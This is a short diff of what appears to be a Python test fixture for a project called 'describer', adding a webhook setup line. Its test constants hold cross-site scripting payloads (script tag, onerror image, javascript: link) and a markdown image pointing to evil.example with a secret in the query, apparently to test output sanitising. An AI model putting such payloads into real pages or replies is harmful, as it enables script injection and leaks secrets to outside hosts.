@@ -16,7 +16,8 @@ SECRET = "sk-secret-of-the-endpoint"
 SCRIPT = "<script>alert(1)</script>"
 EVIL = f"{SCRIPT} ![a](https://evil.example/?q=secret) [x](javascript:alert(1)) <img src=x onerror=alert(1)> \"onclick='"
 MADE = """
-from describer.models import ApiKey, User
+from describer.models import ApiKey, User, Webhook
+Webhook.issue(User.objects.get(), "https://127.0.0.1/")
 for name, password in {people!r}:
     User.objects.create_user(name, password=password)
 for user in User.objects.order_by("pk"):
